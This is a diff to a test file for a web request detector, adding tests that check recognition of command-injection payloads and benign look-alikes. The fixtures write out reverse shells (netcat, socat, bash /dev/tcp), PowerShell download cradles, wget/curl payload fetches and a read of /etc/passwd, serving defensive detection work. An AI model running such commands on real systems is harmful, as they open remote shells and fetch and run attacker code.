@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import { describe, it } from 'node:test';
 import { FieldKind, HttpFlag } from '../../src/app/http/request.js';
 import { ConfigError } from '../../src/config/config.js';
-import { detectBoundName, detectCommandInjection, detectExpressionCode, detectJavaGadget, detectOgnl, detectPhpCode, detectServerPage, detectTemplateCode, detectYamlGadget } from '../../src/detect/web/command-injection.js';
+import { detectBoundName, detectCommandInjection, detectCommandLine, detectCommandParameter, detectExpressionCode, detectJavaGadget, detectOgnl, detectPhpCode, detectServerPage, detectTemplateCode, detectYamlGadget } from '../../src/detect/web/command-injection.js';
 import { detectLog4shell } from '../../src/detect/web/log4shell.js';
 import { detectTraversal } from '../../src/detect/web/path-traversal.js';
 import { loadPatternFile, parsePatterns, PatternMatcher } from '../../src/detect/web/patterns.js';
@@ -312,6 +312,46 @@ describe('command injection', () => {
       ['1|sleep 5', '; kill 1', 'x && timeout 10 id', '; cat 1>&2', '; ping 10.0.0.1', '; host 192.0.2.7', '| nc 4444', '; python 2>/dev/null'].map((v) => detectCommandInjection(v)),
       ['| then sleep', '; then kill', '& then timeout', '; then cat', '; then ping', '; then host', '| then nc', '; then python'],
     );
+  });
+
+  it('finds command lines that are attacks with no separator before them', () => {
+    const attacks: [string, string][] = [
+      ['nc -lvvp 4444 -e /bin/sh', 'netcat running a shell'],
+      ['busybox nc 10.0.0.1 4444 -e sh', 'netcat running a shell'],
+      ['ncat 10.0.0.1 4444 --sh-exec cmd.exe', 'netcat running a shell'],
+      ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'reverse shell (/dev/tcp/)'],
+      ['socat tcp-connect:10.0.0.1:4444 exec:/bin/sh', 'socat running a shell'],
+      ["python3 -c 'import pty;pty.spawn(\"/bin/bash\")'", 'python3 one-liner'],
+      ['x = pty.spawn("/bin/sh")', 'reverse shell (pty.spawn)'],
+      ["perl -e 'exec \"/bin/sh\";'", 'perl one-liner'],
+      ['powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA', 'PowerShell encoded command'],
+      ["powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')\"", 'PowerShell download cradle'],
+      ['wget http://192.0.2.7/x.sh -O /tmp/x.sh', 'download to /tmp/'],
+      ['curl -s -o /dev/shm/x http://192.0.2.7/x', 'download to /dev/shm/'],
+      ['cmd /c whoami', 'cmd one-liner'],
+      ['C:\\Windows\\System32\\cmd.exe /c ver', 'cmd.exe one-liner'],
+      ['/bin/sh -c id', 'sh one-liner'],
+    ];
+    assert.deepEqual(attacks.map(([v]) => detectCommandLine(v)), attacks.map(([, r]) => r));
+    // Through the whole check too (the same rule, before the separator rule).
+    assert.equal(detectCommandInjection('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), 'reverse shell (/dev/tcp/)');
+    // Prose and ordinary values that name these tools.
+    const benign = [
+      'nc is netcat', 'install ncat with -e support?', 'the /dev/tcp feature of bash', 'python -c is handy', 'Perl -e one-liners book', 'wget -O - http://example.com',
+      'curl -o page.html https://example.com', 'cmd /? help', 'sh -c', 'download the powershell -enc guide', 'a cash -c b', 'my -e /bin/sh', 'IEX index fund', 'the os module',
+    ];
+    assert.deepEqual(hits(detectCommandLine, benign), []);
+  });
+
+  it('finds command lines in a command parameter, and lets action names through', () => {
+    const attacks: [string, string][] = [
+      ['whoami', 'whoami'], ['id', 'id'], ['/usr/bin/id', 'id'], ['uname -a', 'uname'], ['ls -la', 'ls'], ['cat /etc/passwd', 'cat'], ['dir C:\\', 'dir'],
+      ['ipconfig /all', 'ipconfig'], ['net user', 'net'], ['wget https://198.51.100.7/x.txt', 'wget'], ['ping 127.0.0.1', 'ping'], ['netstat -an', 'netstat'],
+    ];
+    assert.deepEqual(attacks.map(([v]) => detectCommandParameter(v)), attacks.map(([, b]) => `${b} as the command parameter's value`));
+    // elFinder's and PayPal's actions, a login shell in an admin page, words.
+    const benign = ['ls', 'rm', 'chmod', 'open', 'search', '_s-xclick', '/bin/bash', 'find shoes', 'echo hello', 'login', 'sleep', 'date', 'start'];
+    assert.deepEqual(hits(detectCommandParameter, benign), []);
   });
 
   it('reads a word alone on the line after a newline as a command only when it ends a one-token value', () => {
